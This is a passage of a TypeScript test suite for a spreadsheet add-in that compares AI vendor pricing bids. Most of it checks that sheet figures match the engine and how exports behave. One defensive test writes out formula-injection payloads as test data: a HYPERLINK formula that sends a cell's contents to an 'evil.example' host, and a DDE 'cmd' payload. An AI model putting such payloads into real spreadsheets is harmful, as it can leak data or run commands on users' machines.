      'bid 5 "No tokens" (Y) cannot be priced in this scenario: a per-token bid needs tokens per conversation, from the bid or the scenario',
    ]);
    expect(wb.sheetNames()).toEqual(["Sheet1"]);
    wb.destroy();
  });

  test("injection strings from a template are written and read back as text, never as formulas", async () => {
    const wb = workbook();
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "=1+1", "'quoted", "=cmd|' /C calc'!A0"];
    const t = asTemplate(
      "evil",
      { vendor: evil[0], name: evil[1], currency: "USD", pricing: { model: "per-resolution", pricePerResolution: 0.5 }, supplied: [{ label: evil[3], perConversation: 0.1 }] },
      {
        notes: evil[2],
        questions: evil,
        sources: [{ field: "pricing.pricePerResolution", title: evil[6], url: "https://evil.example/?q=@SUM(A1)", asOf: "2025-01-01" }],
        reference: { label: evil[5], value: 0.1, note: evil[0] },
      },
    );
    const { sheetName, layout } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: [t] });
    expect(wb.value(sheetName, layout.bids[0].cells.name)).toBe("+1");
    expect(wb.cell(sheetName, layout.bids[0].cells.name).formula).toBeNull();
    expect(wb.value(sheetName, `C${layout.bids[0].row}`)).toBe(evil[0]);
    const own = layout.questions.find((g) => g.heading.endsWith("its own questions"))!;
    for (const [k, address] of own.cells.entries()) {
      expect(wb.value(sheetName, address)).toBe(evil[k]);
      expect(wb.cell(sheetName, address).formula).toBeNull();
    }
    // No cell anywhere holds a formula that came from the template's text.
    const { rows } = wb.sheetSize(sheetName);
    for (let r = 1; r <= rows; r++)
      for (let c = 0; c < 25; c++) {
        const f = wb.cell(sheetName, cellAddress({ row: r - 1, col: c })).formula;
        if (f) expect(f).not.toMatch(/HYPERLINK|evil|SUM\(A1\)|cmd|1\+1|quoted/);
      }
    expect(wb.value(sheetName, layout.bids[0].cells.aiCost)).toBeCloseTo(0.55, 12);
    const [back] = await exportBids(wb, sheetName);
    expect(back).toEqual(t);
    wb.destroy();
  });
});

describe("export", () => {
  test("a price cell holding text is reported with its cell; nothing is exported", async () => {
    const wb = workbook();
    const templates = guideTemplates();
    const { sheetName, layout } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates });
    const cell = layout.bids[1].inputs["pricing.pricePerResolution"];
    wb.setCellInput(sheetName, cell, "'0.99 per resolution");
    await expect(exportBids(wb, sheetName)).rejects.toThrow(new RegExp(`bid 2 "Fin": cell ${cell} \\(pricing.pricePerResolution\\) must be a number`));
    wb.setCellInput(sheetName, cell, -2);
    await expect(exportBids(wb, sheetName)).rejects.toThrow(/bid 2 "Fin": bid.pricing.pricePerResolution must be 0 or more \(got -2\)/);
    wb.setCellInput(sheetName, cell, 0.79);
    const out = await exportBids(wb, sheetName, "2026-11-29");
    expect((out[1].bid.pricing as { pricePerResolution: number }).pricePerResolution).toBe(0.79);
    expect(out[1].notes).toMatch(/^Edited on the comparison sheet “Bid comparison”: pricing\.pricePerResolution 0\.79 \(quoted 0\.99\)/);
    expect(out[0]).toEqual(templates[0]);
    wb.destroy();
  });

  test("an edit carried by an update keeps the date it was first found", async () => {
    const wb = workbook();
    const templates = guideTemplates();
    const { sheetName, layout } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates });
    wb.setCellInput(sheetName, layout.bids[1].inputs["pricing.pricePerResolution"], 0.89);
    await applyUpdate(wb, await prepareUpdate(wb, sheetName, { scenario: GUIDE_SCENARIO, templates }, "2026-10-01"));
    const out = await exportBids(wb, sheetName, "2026-11-29");
    expect(out[1].sources).toEqual([{ field: "pricing.pricePerResolution", title: expect.stringContaining("0.89 in place of the quoted 0.99"), asOf: "2026-10-01" }]);
    wb.destroy();
  });
});

describe("the shipped gallery on one sheet", () => {
  test("every gallery template's figures, rates and risk equal the engine's", async () => {
    const templates = [...gallery];
    expect(templates.length).toBeGreaterThanOrEqual(13);
    const wb = workbook();
    // Priced at the versions in effect on the comparison date; export writes every version back.
    const asOf = "2026-11-29";
    const dated = templates.map((t) => templateAt(t, asOf));
    const request: ComparisonRequest = { scenario: { ...RICH_SCENARIO, ranges: defaultRanges(RICH_SCENARIO) }, templates, risk: { draws: 400, seed: 3 }, asOf };
    const { sheetName, layout } = await buildComparison(wb, request);
    expectFiguresMatchEngine(wb, sheetName, layout, dated, request.scenario);
    expectRatesMatchEngine(wb, sheetName, layout, dated, request.scenario);
    expectRiskMatchEngine(wb, sheetName, layout, dated, request.scenario, 400, 3);
    expect(await exportBids(wb, sheetName)).toEqual(templates);
    wb.destroy();
  });

  test("the gallery's guide bids give the worked example's figures, with the guide's 0.16 beside C", async () => {
    const templates = GUIDE_BID_IDS.map((id) => galleryTemplate(id)!);
    const wb = workbook();
    const { sheetName, layout } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates });
    const v = (a: string) => num(wb, sheetName, a);
    expect(layout.bids.map((b) => v(b.cells.aiCost))).toEqual([expect.closeTo(0.46, 12), expect.closeTo(0.891, 12), expect.closeTo(0.8375, 12)]);
    expect(layout.bids.map((b) => v(b.cells.costPerResolution))).toEqual([expect.closeTo(0.5111, 4), expect.closeTo(0.99, 12), expect.closeTo(0.9306, 4)]);
    expect(layout.bids.map((b) => v(b.cells.blended))).toEqual([expect.closeTo(0.76, 12), expect.closeTo(1.191, 12), expect.closeTo(1.1375, 12)]);
    const c = layout.bids[2];
    expect(v(c.cells.reference!)).toBe(0.16);
    expect(wb.value(sheetName, c.cells.referenceNote!)).toBe(`${templates[2].reference!.label}: ${templates[2].reference!.note}`);
    wb.destroy();
  });
});

describe("prices as they really are on the sheet (rate cards, sources, stale flags)", () => {
  // The scenario states reasoning tokens and a long-prompt share: per-token bids without their own tokens use them.
  const scenario: Scenario = {
    ...RICH_SCENARIO,
    tokens: { input: 18000, output: 2500, cachedInput: 6000, attempts: 2, reasoning: 1200, longPrompts: { share: 0.15, input: 280000, cachedInput: 50000 } },
  };
  const usd = (name: string, pricing: Bid["pricing"], rest: Partial<Bid> = {}): Bid => ({ vendor: "Rate cards", name, currency: "USD", pricing, ...rest });
  const templates: BidTemplate[] = [
    asTemplate("done-when", usd("Done-when rate card", DONE_WHEN)),
    asTemplate(
      "everything",
      usd("Every line of a rate card", {
        model: "per-token",
        inputPricePerMTok: 5,
        outputPricePerMTok: 30,
        cachedInputPricePerMTok: 0.5,
        contextRows: [
          { fromInputTokens: 128000, inputPricePerMTok: 7.5, outputPricePerMTok: 37.5 },
          { fromInputTokens: 272000, inputPricePerMTok: 10, cachedInputPricePerMTok: 1, outputPricePerMTok: 45 },
        ],
        cacheWrites: { oneHour: { multiplier: 2, share: 0.1 } },
        batch: { discount: 0.5, share: 0.3 },
        priority: { multiplier: 2.5, share: 0.2 },
        regional: { multiplier: 1.1, share: 0.5 },
        callFees: [
          { label: "Web search", pricePerCall: 0.01, callsPerConversation: 1.5 },
          { label: "Code execution", pricePerCall: 0.03, callsPerConversation: 0.2 },
        ],
      }),
    ),
    asTemplate("one-row", usd("One row, reasoning and uplifts", { model: "per-token", inputPricePerMTok: 2, outputPricePerMTok: 8, priority: { multiplier: 2, share: 1 }, tokens: { input: 4000, output: 500, reasoning: 3000 } })),
    asTemplate("credits", usd("Credits", { model: "credits", creditsPerAction: 20, actionsPerConversation: 6, packPrice: 500, creditsPerPack: 100000 })),
    asTemplate(
      "credit-packs",
      usd("Credits in packs with a platform fee", { model: "credits", creditsPerAction: 2, actionsPerConversation: 3.5, packPrice: 400, creditsPerPack: 100000 }, { charges: { platformFeeMonthly: 1000, package: { size: 100000, price: 400 } } }),
    ),
    ...guideTemplates(),
  ];
  const request: ComparisonRequest = { scenario: { ...scenario, ranges: defaultRanges(scenario) }, templates, risk: { draws: 500, seed: 7 }, asOf: "2026-11-29" };
  let wb: EmbeddedWorkbook;
  let sheet: string;
  let layout: ComparisonLayout;

  beforeAll(async () => {
    wb = workbook();
    ({ sheetName: sheet, layout } = await buildComparison(wb, request));
  });
  afterAll(() => wb.destroy());

  test("the full-rate-card bid's vendor fee on the sheet is the hand computation, 0.284736", () => {
    expect(doneWhenByHand()).toBeCloseTo(0.284736, 12);
    close(num(wb, sheet, layout.bids[0].cells.vendorFee), doneWhenByHand(), "done-when vendor fee");
    // A credit bid: 6 actions x 20 credits x $500 / 100,000 credits.
    close(num(wb, sheet, layout.bids[3].cells.vendorFee), 0.6, "credits vendor fee");
  });

  test("every new shape: figures, ranks, rates and risk equal the engine's", () => {
    expectFiguresMatchEngine(wb, sheet, layout, templates, request.scenario);
    expectRatesMatchEngine(wb, sheet, layout, templates, request.scenario);
    expectRiskMatchEngine(wb, sheet, layout, templates, request.scenario, 500, 7);
  });

  test("rate card cells edited on the sheet recompute as the engine does, and export reads them back", async () => {
    const b = layout.bids[1];
    wb.setCellInput(sheet, b.inputs["pricing.contextRows.1.inputPricePerMTok"], 12);
    wb.setCellInput(sheet, b.inputs["pricing.batch.share"], 0.5);
    wb.setCellInput(sheet, b.inputs["pricing.callFees.0.pricePerCall"], 0.02);
    // The second row quoted no cached price: its cell follows the row's input price until typed.
    const edited = JSON.parse(JSON.stringify(templates)) as BidTemplate[];
    const p = edited[1].bid.pricing as Extract<Bid["pricing"], { model: "per-token" }>;
    p.contextRows![0].cachedInputPricePerMTok = undefined;
    p.contextRows![1].inputPricePerMTok = 12;
    p.batch!.share = 0.5;
    p.callFees![0].pricePerCall = 0.02;
    delete p.contextRows![0].cachedInputPricePerMTok;
    expectFiguresMatchEngine(wb, sheet, layout, edited, request.scenario);
    const exported = await exportBids(wb, sheet, "2026-11-29");
    expect(exported[1].bid.pricing).toEqual(p);
    expect(exported.map((t) => t.bid.pricing).filter((_, i) => i !== 1)).toEqual(templates.map((t) => t.bid.pricing).filter((_, i) => i !== 1));
  });

  test("the comparison date, the version used and when its prices were read are on the sheet", () => {
    const cells = wb.values(sheet, "A1:A6").map((r) => r[0]);
    const prices = templates.map((t) => pricesInEffect(t, "2026-11-29"));
    const stale = prices.filter((p) => p.stale).length;
    expect(stale).toBeGreaterThan(0);
    expect(cells).toContain(
      `Prices as of 2026-11-29: each bid is priced at the version of its prices in effect that day. ${stale === 1 ? "1 bid has prices" : `${stale} bids have prices`} read more than 90 days before it, marked stale: check them before you rely on them.`,
    );
    // Per bid: a private quote, or the date read, marked stale past 90 days.
    layout.bids.forEach((b, i) => expect(wb.value(sheet, b.cells.prices)).toBe(prices[i].readOn === null ? "private quote" : `${prices[i].readOn}${prices[i].stale ? ": stale" : ""}`));
    expect(wb.value(sheet, layout.bids[0].cells.prices)).toBe("private quote");
  });
});

describe("dated versions on the sheet (the version in effect at the comparison date)", () => {
  /** $2.00 per resolution, read 2026-01-10; from 2026-05-18, $1.50 per outcome plus a platform fee, read that day. */
  function dated(): BidTemplate {
    const t = asTemplate("dated", { vendor: "Dated", name: "Price change", currency: "USD", pricing: { model: "per-resolution", pricePerResolution: 2 } });
    t.sources = [{ field: "pricing.pricePerResolution", title: "Old price list", asOf: "2026-01-10" }];
    t.versions = [
      {
        effectiveFrom: "2026-05-18",
        label: "Outcomes",
        pricing: { model: "outcome-based", pricePerOutcome: 1.5 },
        charges: { platformFeeMonthly: 1000 },
        sources: [{ field: "pricing.pricePerOutcome", title: "New price list", asOf: "2026-05-18" }],
      },
    ];
    return t;
  }

  test("before and after the change: the two prices, the version used and the stale mark; an update to the new date re-plans; export keeps every version", async () => {
    const templates = [dated(), ...guideTemplates()];
    const wb = workbook();
    const before: ComparisonRequest = { scenario: GUIDE_SCENARIO, templates, asOf: "2026-05-17" };
    const built = await buildComparison(wb, before);
    const sheet = built.sheetName;
    close(num(wb, sheet, built.layout.bids[0].cells.vendorFee), 2 * 0.9, "price before the change");
    // Read 2026-01-10, 127 days before 2026-05-17: stale, a warning cell on the bid's row.
    expect(wb.value(sheet, built.layout.bids[0].cells.prices)).toBe("2026-01-10: stale");
    expectFiguresMatchEngine(
      wb,
      sheet,
      built.layout,
      templates.map((t) => templateAt(t, "2026-05-17")),
      GUIDE_SCENARIO,
    );

    const after: ComparisonRequest = { ...before, asOf: "2026-05-18" };
    const preview = await prepareUpdate(wb, sheet, after, "2026-05-18");
    // The old price's row goes (the analyst is told first); the new one's is inserted.
    // In the analyst's words: whose input it is, never the add-in's internal key.
    expect(preview.conflicts.map((c) => c.what)).toContainEqual(expect.stringMatching(/^the row of .*'s input "pricing: price per resolution" is no longer part of the comparison/));
    expect(preview.conflicts.map((c) => c.what).join("\n")).not.toMatch(/input:dated|:chart:/);
    const { layout } = await applyUpdate(wb, preview);
    // $1.50 per outcome at r = 0.9, and the platform fee of $1,000 over 100,000 conversations.
    close(num(wb, sheet, layout.bids[0].cells.vendorFee), 1.5 * 0.9 + 0.01, "price after the change");
    expect(wb.value(sheet, layout.bids[0].cells.prices)).toBe("2026-05-18");
    expect(layout.bids[0].inputs["pricing.pricePerOutcome"]).toBeDefined();
    expect(layout.bids[0].inputs["pricing.pricePerResolution"]).toBeUndefined();
    expectFiguresMatchEngine(
      wb,
      sheet,
      layout,
      templates.map((t) => templateAt(t, "2026-05-18")),
      GUIDE_SCENARIO,
    );
    expectRiskMatchEngine(
      wb,
      sheet,
      layout,
      templates.map((t) => templateAt(t, "2026-05-18")),
      GUIDE_SCENARIO,
      2000,
    );

    // Unedited, export gives the templates back with every version; an edit goes to the version in effect.
    expect(await exportBids(wb, sheet, "2026-05-18")).toEqual(templates);
    wb.setCellInput(sheet, layout.bids[0].inputs["pricing.pricePerOutcome"], 1.25);
    const [out] = await exportBids(wb, sheet, "2026-05-20");
    expect(out.bid.pricing).toEqual({ model: "per-resolution", pricePerResolution: 2 });
    expect(out.sources).toEqual(templates[0].sources);
    expect(out.versions![0].pricing).toEqual({ model: "outcome-based", pricePerOutcome: 1.25 });
    expect(out.versions![0].sources).toEqual([expect.objectContaining({ field: "pricing.pricePerOutcome", asOf: "2026-05-20" })]);
    expect(out.versions![0].sources[0].title).toContain("1.25 in place of the quoted 1.5");
    wb.destroy();
  });
});
